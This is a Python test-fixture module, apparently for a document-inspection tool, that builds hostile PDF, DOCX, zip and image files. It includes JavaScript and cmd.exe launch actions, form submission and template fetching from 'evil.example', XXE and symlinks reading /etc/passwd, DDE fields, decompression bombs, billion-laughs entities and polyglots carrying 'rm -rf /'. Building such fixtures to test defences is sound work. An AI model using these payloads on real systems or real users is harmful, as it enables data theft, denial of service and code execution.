"""Files made to do harm, built by hand."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from bot.inspection.package import unpack
from tests.inspection import ordinary

MEGABYTE = 1024 * 1024
DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


# PDF


def raw_pdf(*objects: bytes, root: int = 1, more: bytes = b"") -> bytes:
    """A PDF of objects numbered from 1, with a right table of where they stand."""
    written = io.BytesIO(b"")
    written.write(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(written.tell())
        written.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = written.tell()
    written.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for place in places:
        written.write(b"%010d 00000 n \n" % place)
    written.write(b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (len(objects) + 1, root, more))
    written.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return written.getvalue()


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def deflated(megabytes: int, start: bytes = b"") -> bytes:
    """A text and so many megabytes of blanks, packed; the same block over and over, since packing takes time."""
    first = zlib.compressobj(9)
    head = first.compress(start) + first.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, wbits=-15)
    block = again.compress(b" " * MEGABYTE) + again.flush(zlib.Z_FULL_FLUSH)
    return head + block * megabytes + b"\x03\0"


def armed_pdf() -> bytes:
    """A PDF that runs, launches, sends, plays and hides, in every place where one can."""
    made = ordinary.document()
    page = made.pages[0]
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
    file = made.make_stream(b"PK\x03\x04 hidden", Type=Name.EmbeddedFile)
    attached = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=file))
    made.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://example.org"), Next=Array([script, launch]))
    made.Root.AA = Dictionary(WC=script)
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("one"), made.make_indirect(script)])),
        EmbeddedFiles=Dictionary(Names=Array([String("x.exe"), made.make_indirect(attached)])),
    )
    made.Root.AF = Array([attached])
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))
    made.Root.Metadata = made.make_stream(b"<x:xmpmeta>Amina</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML)
    page.AA = Dictionary(O=launch)
    annotations = [made.make_indirect(one) for one in _armed_annotations(attached, script, launch)]
    made.Root.AcroForm.Fields = Array([one for one in annotations if one.Subtype == "/Widget"])
    page.Annots = Array(annotations)
    return ordinary.saved(made)


def _armed_annotations(attached: Dictionary, script: Dictionary, launch: Dictionary) -> list[Dictionary]:
    def annotation(kind: str, **more: Any) -> Dictionary:
        return Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=Array([0, 0, 9, 9]), **more)

    def link(**action: Any) -> Dictionary:
        return annotation("Link", A=Dictionary(**action))

    return [
        annotation("FileAttachment", FS=attached),
        annotation("RichMedia", RichMediaContent=Dictionary(Assets=attached)),
        annotation("Screen", A=Dictionary(S=Name.Rendition, JS=String("app.alert(2)"))),
        annotation("Widget", FT=Name.Tx, T=String("field"), AA=Dictionary(K=script), A=launch),
        link(S=Name.URI, URI=String("file:///etc/passwd")),
        link(S=Name.URI, URI=String("javascript:alert(1)")),
        link(S=Name.URI, URI=String("\\\\evil\\share")),
        link(S=Name.SubmitForm, F=String("https://evil.example")),
        link(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf")),
        link(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script),
        link(S=Name.URI, URI=String("https://example.org/kept")),
    ]


def hidden_name_pdf() -> bytes:
    """JavaScript whose name is written in hexadecimal, in an object that an update put in place of another."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    )


def page_tree_in_circles() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
    )


def page_tree_that_multiplies() -> bytes:
    """Thirty levels, each of which has the next one ten times: more pages than there are atoms in a person."""
    levels = [b"<< /Type /Pages /Kids [%s] /Count 10 >>" % (b"%d 0 R " % (number + 1) * 10) for number in range(2, 32)]
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", *levels, b"<< /Type /Page /Parent 31 0 R /MediaBox [0 0 9 9] >>"
    )


def many_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 20_003))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count 20000 >>" % kids, *[page] * 20_000
    )


def page_bomb(megabytes: int = 3_000) -> bytes:
    """A page whose content unpacks to gigabytes."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        stream(deflated(megabytes), b"/Filter /FlateDecode"),
    )


def bomb_in_a_bomb() -> bytes:
    """A page packed twice: a few kilobytes that become gigabytes."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        stream(zlib.compress(deflated(3_000), 9), b"/Filter [/FlateDecode /FlateDecode]"),
    )


def many_layers() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        stream(b"x", b"/Filter [%s]" % (b"/FlateDecode " * 2_000)),
    )


def object_stream_bomb(megabytes: int = 3_000) -> bytes:
    """The catalogue itself lies in an object stream that unpacks to gigabytes."""
    objects = (
        b"<< /Type /Catalog /Pages 4 0 R >>",
        b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 9 9] >>",
    )
    table_of_objects = b"1 0 4 %d 5 %d " % (len(objects[0]) + 1, len(objects[0]) + len(objects[1]) + 2)
    packed = deflated(megabytes, table_of_objects + b"\n".join(objects) + b"\n")
    written = io.BytesIO()
    written.write(b"%PDF-1.7\n")
    place = written.tell()
    written.write(
        b"2 0 obj\n"
        + stream(packed, b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode" % len(table_of_objects))
        + b"\nendobj\n"
    )
    start = written.tell()
    rows = b"".join(
        struct.pack(">BIH", *row)
        for row in [(0, 0, 65535), (2, 2, 0), (1, place, 0), (1, start, 0), (2, 2, 1), (2, 2, 2)]
    )
    table = stream(rows, b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R")
    written.write(b"3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)
    return written.getvalue()


def deep_pdf() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    depth = 100_000
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Deep %s%s >>" % (b"[" * depth, b"]" * depth),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )


def xref_in_circles() -> bytes:
    """A table that says that the earlier table is itself, and a length that is stated by the stream itself."""
    content = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Length 4 0 R >>\nstream\nq Q\nendstream",
        b"<< /First 5 0 R /Last 5 0 R /Next 5 0 R /Prev 5 0 R /Parent 5 0 R /Count 1 >>",
        more=b"/Prev 0000000000",
    )
    start = content.rindex(b"xref\n0 ")
    return content.replace(b"/Prev 0000000000", b"/Prev %010d" % start)


def portfolio() -> bytes:
    made = ordinary.document()
    made.Root.Collection = Dictionary(Type=Name.Collection)
    return ordinary.saved(made)


def dynamic_form() -> bytes:
    made = ordinary.document()
    made.Root.NeedsRendering = True
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))
    return ordinary.saved(made)


def encrypted_pdf() -> bytes:
    return ordinary.saved(ordinary.document(), encryption=pikepdf.Encryption(owner="a", user="b"))


def linearized_and_cut() -> bytes:
    content = ordinary.saved(ordinary.document(40), linearize=True)
    assert b"%%EOF" in content[: len(content) * 3 // 4]
    return content[: len(content) * 3 // 4]


def zip_behind_pdf() -> bytes:
    return ordinary.pdf() + zip_file({"evil.sh": b"rm -rf /" * 500})


def zip_inside_pdf() -> bytes:
    """A whole zip file as the uncompressed content of the page, which many readers of zip files find."""
    made = ordinary.document()
    made.pages[0].Contents = made.make_stream(zip_file({"evil.sh": b"rm"}))
    return ordinary.saved(made, compress_streams=False)


def zip_inside_photograph_inside_pdf() -> bytes:
    """The same, said to be a photograph, which nobody packs once more."""
    made = ordinary.document()
    picture = made.make_stream(zip_file({"evil.sh": b"rm"}), Subtype=Name.Image, Filter=Name.DCTDecode)
    made.pages[0].Resources.XObject = Dictionary(P=picture)
    return ordinary.saved(made)


# DOCX and zip


def zip_file(parts: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as package:
        for name, content in parts.items():
            package.writestr(zipfile.ZipInfo(name), content, method)
    return written.getvalue()


def docx_bomb(megabytes: int = 1_000) -> bytes:
    """A Word document one part of which unpacks to a gigabyte."""
    written = io.BytesIO(ordinary.docx_file())
    with (
        zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
        package.open("word/comments.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(megabytes // 10):
            part.write(bytes(10 * MEGABYTE))
    return written.getvalue()


def docx_bomb_that_lies() -> bytes:
    """The same, whose directory says that it unpacks to a few bytes."""
    content = ordinary.docx_with(changes={"word/comments.xml": bytes(150 * MEGABYTE)})
    return content.replace(struct.pack("<I", 150 * MEGABYTE), struct.pack("<I", 150))


def overlapping_docx() -> bytes:
    """Two entries of the directory that share the bytes of one part."""
    content = ordinary.docx_file()
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        first, second = package.infolist()[:2]
    old = struct.pack("<I", second.header_offset) + second.filename.encode()
    assert old in content
    return content.replace(old, struct.pack("<I", first.header_offset) + second.filename.encode())


def docx_document(old: bytes, new: bytes) -> bytes:
    return ordinary.docx_with(replaced=(DOCUMENT, old, new))


def docx_with_dtd(dtd: bytes, reference: bytes) -> bytes:
    parts = unpack(ordinary.docx_file())
    declaration, _, rest = parts[DOCUMENT].partition(b"?>")
    changed = declaration + b"?>" + dtd + rest.replace(b"Analyst", reference, 1)
    return ordinary.docx_with(changes={DOCUMENT: changed})


def billion_laughs() -> bytes:
    levels = b"".join(b'<!ENTITY l%d "%s">' % (number, b"&l%d;" % (number - 1) * 10) for number in range(1, 10))
    return docx_with_dtd(b'<!DOCTYPE d [<!ENTITY l0 "lol">' + levels + b"]>", b"&l9;")


def xxe() -> bytes:
    return docx_with_dtd(b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;")


def deep_docx() -> bytes:
    depth = 100_000
    return docx_document(b"<w:body>", b"<w:body>" + b"<w:p>" * depth + b"</w:p>" * depth)


def docx_relation(kind: str, target: str, mode: str = "External", part: str = RELATIONS) -> bytes:
    """The Word document with one relationship more."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    relation = f'<Relationship Id="rIdX" Type="{base}{kind}" Target="{target}" TargetMode="{mode}"/>'
    parts = unpack(ordinary.docx_file())
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    content = parts.get(part, empty).replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    return ordinary.docx_with(changes={part: content})


def docx_from_template() -> bytes:
    """A Word document that fetches its template from elsewhere, as many do, most of them innocently."""
    content = docx_relation("attachedTemplate", "https://evil.example/x.dotm", part="word/_rels/settings.xml.rels")
    parts = unpack(content)
    settings = parts["word/settings.xml"]
    space = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = b'<w:attachedTemplate xmlns:r="%s" r:id="rIdX"/>' % space
    parts["word/settings.xml"] = settings.replace(b"</w:settings>", link + b"</w:settings>")
    return zip_file(parts)


def macro_docx() -> bytes:
    return ordinary.docx_with(changes={"word/vbaProject.bin": OLE})


def renamed_docm() -> bytes:
    """A document with macros under the name of one without, its macros under the name of a picture."""
    old, new = b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml"
    return ordinary.docx_with(replaced=(TYPES, old, new), changes=None)


def dde_docx() -> bytes:
    """A field that starts a program, its name cut into several runs."""
    field = b"<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd.exe</w:instrText></w:r></w:p>"
    return docx_document(b"</w:p>", field)


def docx_with_names(*names: str) -> bytes:
    return ordinary.docx_with(changes=dict.fromkeys(names, b"x"))


def docx_with_symlink() -> bytes:
    written = io.BytesIO(ordinary.docx_file())
    with zipfile.ZipFile(written, "a") as package:
        entry = zipfile.ZipInfo("word/media/link.png")
        entry.external_attr = 0o120777 << 16
        entry.create_system = 3
        package.writestr(entry, "/etc/passwd")
    return written.getvalue()


def docx_with_password_per_part() -> bytes:
    """Zip's own encryption: a bit set in each header."""
    content = bytearray(ordinary.docx_file())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(signature, place + 4)
    return bytes(content)


def encrypted_docx() -> bytes:
    return OLE + "EncryptionInfo".encode("utf-16-le") + bytes(50) + "EncryptedPackage".encode("utf-16-le") + bytes(999)


def many_parts() -> bytes:
    return zip_file({"word/document.xml": b"x", **{f"word/media/{number}.png": b"" for number in range(100_000)}})


# Pictures


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def huge_png(side: int = 30_000) -> bytes:
    """A black picture of 900 megapixels in about 100 kilobytes."""
    packing = zlib.compressobj(9)
    row = bytes(side // 8 + 1)
    pixels = b"".join([*(packing.compress(row) for _ in range(side)), packing.flush()])
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    """A small picture with a compressed remark that unpacks to gigabytes."""
    content = ordinary.png((20, 20))
    remark = _chunk(b"zTXt", b"remark\0\0" + deflated(1_000))
    return content[:33] + remark + content[33:]


def png_of_wrong_size() -> bytes:
    """A header that says 6000 x 6000 over the pixels of a small picture."""
    content = ordinary.png((20, 20))
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", 6000, 6000, 8, 2, 0, 0, 0))
    return content[:8] + header + content[33:]


def jpeg_with_script() -> bytes:
    return ordinary.jpeg() + b"<script>alert(1)</script>" + zip_file({"evil.sh": b"rm"})
